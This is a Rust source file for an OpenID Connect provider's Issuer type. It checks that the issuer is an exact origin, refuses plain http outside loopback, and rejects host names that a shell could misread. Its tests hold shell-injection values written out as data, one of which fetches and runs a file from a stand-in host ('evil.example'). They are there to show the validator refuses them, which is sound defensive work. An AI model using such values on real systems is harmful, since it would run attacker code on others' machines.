//! Who this provider is.

use std::fmt;
use std::net::IpAddr;
use std::str::FromStr;

use url::{Host, Url};

use super::Refusal;

/// The issuer identifier, byte for byte as the operator wrote it: clients
/// compare it as a string (OpenID Connect Discovery §4.3, RFC 9207 §2.4), so
/// that no library may rewrite it on the way.
///
/// It is an origin and nothing more. A path would leave the rest of the host to
/// others, who could then read and set this provider's cookies.
#[derive(Clone, PartialEq, Eq)]
pub struct Issuer {
    text: String,
    url: Url,
}

impl Issuer {
    /// The identifier, for `iss`, for discovery and for comparing.
    #[must_use]
    pub fn as_str(&self) -> &str {
        &self.text
    }

    /// The address of a path of this provider: `path` starts with `/`.
    #[must_use]
    pub fn at(&self, path: &str) -> String {
        format!("{}{path}", self.text)
    }

    /// As a URL, for libraries that want one. Its text has a `/` at the end
    /// that the identifier does not have.
    #[must_use]
    pub fn as_url(&self) -> &Url {
        &self.url
    }

    /// The host's name, without the port.
    #[must_use]
    pub fn host(&self) -> &str {
        self.url.host_str().unwrap_or_default()
    }

    /// Whether browsers reach it over TLS: cookies are `Secure` then.
    #[must_use]
    pub fn is_https(&self) -> bool {
        self.url.scheme() == "https"
    }

    /// Whether the host is this machine itself.
    #[must_use]
    pub fn is_loopback(&self) -> bool {
        is_loopback(&self.url)
    }

    /// Whether the host can only be this machine or one reserved for tests
    /// (RFC 6761 §6.2: `.test` is never delegated).
    #[must_use]
    pub fn is_for_tests(&self) -> bool {
        self.is_loopback() || self.host().rsplit('.').next() == Some("test")
    }
}

/// RFC 6761 §6.3: `localhost` and every name below it are loopback.
fn is_loopback(url: &Url) -> bool {
    match url.host() {
        Some(Host::Domain(name)) => name.rsplit('.').next() == Some("localhost"),
        Some(Host::Ipv4(ip)) => ip.is_loopback(),
        Some(Host::Ipv6(ip)) => IpAddr::V6(ip).to_canonical().is_loopback(),
        None => false,
    }
}

impl Default for Issuer {
    fn default() -> Self {
        "http://localhost:8000"
            .parse()
            .expect("the default is an issuer")
    }
}

impl fmt::Display for Issuer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl fmt::Debug for Issuer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Issuer({})", self.text)
    }
}

impl FromStr for Issuer {
    type Err = Refusal;

    fn from_str(text: &str) -> Result<Self, Refusal> {
        let example = "write it like https://id.example.org";
        let url = Url::parse(text)
            .map_err(|error| Refusal::new(format!("{text:?} is not a URL ({error})"), example))?;
        if !matches!(url.scheme(), "https" | "http") || url.host().is_none() {
            return Err(Refusal::new(
                format!("{text:?} is not an https URL"),
                example,
            ));
        }
        // RFC 952 and 1123: letters, digits and hyphens. The parser lets more
        // through, of which a shell makes something of its own; `_` is what
        // containers are called with.
        if let Some(Host::Domain(name)) = url.host()
            && !name
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"-._".contains(&b))
        {
            return Err(Refusal::new(
                format!("{text:?} has a host that no name server knows"),
                example,
            ));
        }
        // What differs from the origin has a path, a query, a fragment, a user,
        // a needless port, or capitals in the host: all of them ways for two
        // spellings of one issuer to miss each other.
        let origin = url.origin().ascii_serialization();
        if text != origin {
            return Err(Refusal::new(
                format!(
                    "{text:?} is more than a scheme, a host and a port, or another spelling of them"
                ),
                format!("write {origin}, and give Sluis a host name of its own"),
            ));
        }
        if url.scheme() == "http" && !is_loopback(&url) {
            return Err(Refusal::new(
                format!("{text:?} is http, which is only for this machine itself"),
                format!("write https://{}", &text["http://".len()..]),
            ));
        }
        Ok(Self {
            text: text.to_owned(),
            url,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// It is shown in a command line to whoever drops a file of receipts.
    #[test]
    fn an_issuer_says_nothing_to_a_shell() {
        for text in [
            "https://x;{wget,evil.example};{sh,index.html};",
            "https://x&y.example",
            "https://$(id).example",
            "https://x'y.example",
            "https://x`id`.example",
        ] {
            assert!(text.parse::<Issuer>().is_err(), "{text}");
        }
    }

    fn refusal(text: &str) -> String {
        match text.parse::<Issuer>() {
            Ok(issuer) => panic!("{issuer} was accepted"),
            Err(refusal) => refusal.to_string(),
        }
    }

    #[test]
    fn an_issuer_stays_what_was_written() {
        for text in [
            "https://id.example.org",
            "https://id.example.org:8443",
            "http://localhost:8000",
            "http://sluis.localhost:8000",
            "http://127.0.0.1",
            "http://[::1]:8000",
            "https://xn--bcher-kva.example",
        ] {
            let issuer: Issuer = text.parse().expect(text);
            assert_eq!(issuer.as_str(), text);
            assert_eq!(issuer.at("/jwks"), format!("{text}/jwks"));
        }
    }

    #[test]
    fn http_is_for_loopback_only() {
        assert!(refusal("http://id.example.org:81").ends_with("write https://id.example.org:81"));
        refusal("http://10.0.0.1");
        refusal("http://localhost.example.org");
        refusal("http://notlocalhost");
    }

    #[test]
    fn anything_beyond_the_origin_is_refused_with_the_origin_as_remedy() {
        for text in [
            "https://id.example.org/",
            "https://id.example.org/sluis",
            "https://id.example.org?x=1",
            "https://id.example.org#x",
            "https://someone@id.example.org",
            "https://id.example.org:443",
            "https://ID.example.org",
            " https://id.example.org",
            "https:id.example.org",
        ] {
            assert!(
                refusal(text).contains("write https://id.example.org,"),
                "{text}: {}",
                refusal(text)
            );
        }
        for text in ["", "id.example.org", "ftp://id.example.org", "mailto:a@b.c"] {
            assert!(refusal(text).contains("write it like https://"), "{text}");
        }
    }

    #[test]
    fn only_loopback_and_dot_test_are_for_tests() {
        let for_tests = |text: &str| text.parse::<Issuer>().expect(text).is_for_tests();
        assert!(for_tests("https://id.test"));
        assert!(for_tests("http://localhost:8000"));
        assert!(for_tests("https://127.0.0.1"));
        assert!(!for_tests("https://test.example.org"));
        assert!(!for_tests("https://contest"));
    }
}
